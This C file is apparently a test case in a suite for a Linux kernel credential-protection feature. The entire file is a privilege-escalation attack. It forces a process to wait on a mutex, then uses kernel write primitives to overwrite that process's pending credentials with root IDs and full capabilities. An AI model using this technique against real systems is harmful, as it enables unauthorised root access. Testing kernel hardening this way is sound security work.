// SPDX-License-Identifier: GPL-2.0-only
/*
 * Credentials are committed by one of several rules. Who finds no slot for them waits for
 * a mutex, which is made to look held, and what he goes on with is on his stack: which
 * rule, if that is a number, and where the credentials are, in ordinary memory. The rule
 * of programs lets them have other effective IDs, and all capabilities.
 */
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

#include "attack.h"
#include "creds.h"
#include "held.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define FUNCTION	"__kpkeys_commit_creds"
#define LENGTH		0xc0		/* at most */
#define LOCK		"cred_room_lock"
#define SAVED		6		/* registers of the function, below the way back into it */
#define RULE		1		/* above the credentials ... */
#define RULE_TASK	0		/* ... what a task asks for ... */
#define RULE_PROGRAM	1		/* ... and what a program is given */
#define CRED_PERMITTED	(CRED_EFFECTIVE - 8)
#define CRED_BOUND	(CRED_EFFECTIVE + 8)
#define MAPPED		"/dev/zero"
#define MOST_SLOTS	30000
#define FREED_SLOTS	200
#define TRIES		30

/* Shared with who commits. */
static struct {
	volatile bool sets_clock;
	volatile uid_t uid;
} *root;

/* ---- who commits ---- */

/* An open file keeps credentials of its own, and a mapping keeps it open. */
static void keep_slot(unsigned int nr)
{
	int fd;

	prctl(PR_SET_KEEPCAPS, nr & 1);
	fd = open(MAPPED, O_RDONLY);
	mmap(NULL, PAGE_SIZE, PROT_READ, MAP_PRIVATE, fd, 0);
	close(fd);
}

static void use_up_slots(void)
{
	unsigned int nr;

	for (nr = 0; nr < MOST_SLOTS && geteuid(); nr++)
		keep_slot(nr);
	if (geteuid() || setresuid(0, 0, 0))
		return;
	root->sets_clock = can_set_clock();
	root->uid = getuid();
}

/* Who finds no slot either takes the mutex, and has more made. Some were freed meanwhile. */
static void make_slots(void)
{
	unsigned int nr;

	for (nr = 0; nr < FREED_SLOTS; nr++)
		keep_slot(nr);
}

/* ---- what is changed ---- */

/* What is in force has the same ids, and a key. */
static bool is_prepared(uint64_t cred)
{
	return is_kernel_address(cred) && find_ids(cred) &&
	       frame_of(cred - direct_map_base()) == FRAME_ORDINARY;
}

static int find_prepared_below(const uint64_t *words)
{
	int i;

	for (i = -1; i >= -SAVED; i--)
		if (is_prepared(words[i]))
			return i;
	return 0;
}

static void fill_in(uint64_t ids)
{
	const uint32_t wanted[CRED_IDS] = {
		ATTACKER_UID, ATTACKER_UID, 0, ATTACKER_UID, 0, ATTACKER_UID, 0, ATTACKER_UID,
	};
	uint64_t all = kread64(ids + CRED_BOUND);

	kwrite(ids, wanted, sizeof(wanted));
	kwrite64(ids + CRED_PERMITTED, all);
	kwrite64(ids + CRED_EFFECTIVE, all);
}

static bool ask_for_program(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	int i = find_prepared_below(words);

	(void)change;
	if (!i)
		return false;
	fill_in(find_ids(words[i]));
	if ((uint32_t)words[i + RULE] == RULE_TASK)
		kwrite64(addr + (i + RULE) * sizeof(*words), RULE_PROGRAM);
	return true;
}

static bool commit(const struct held_lock *lock, const struct held_change *rule)
{
	bool changed = held_act(lock, rule);
	int i;

	for (i = 0; i < TRIES && !changed && !held_is_done(); i++)
		changed = held_again(lock, rule);
	held_settle();
	return changed;
}

static enum outcome judge(void)
{
	if (root->uid || !root->sets_clock)
		return lost("who committed has uid=%u", root->uid);
	return won("credentials that a process committed after a wait were taken for a program's: uid=%d became uid=%u, and sets the clock",
		   ATTACKER_UID, root->uid);
}

enum outcome cred_rule(void)
{
	const struct held_change rule = { FUNCTION, LENGTH, ask_for_program, held_is_over, NULL };
	const struct held_lock lock = { ksymbol(LOCK), make_slots };
	bool changed;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!is_protected())
		return lost("nobody waits where credentials are not sealed");
	if (!lock.addr || !ksymbol(FUNCTION))
		return broken("no mutex, or nobody who waits for it");
	root = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	root->uid = ATTACKER_UID;
	held_start(use_up_slots);
	changed = commit(&lock, &rule);
	held_stop();
	return changed ? judge() : broken("nobody waited with credentials");
}
#else
enum outcome cred_rule(void)
{
	return skipped("x86-64 only");
}
#endif
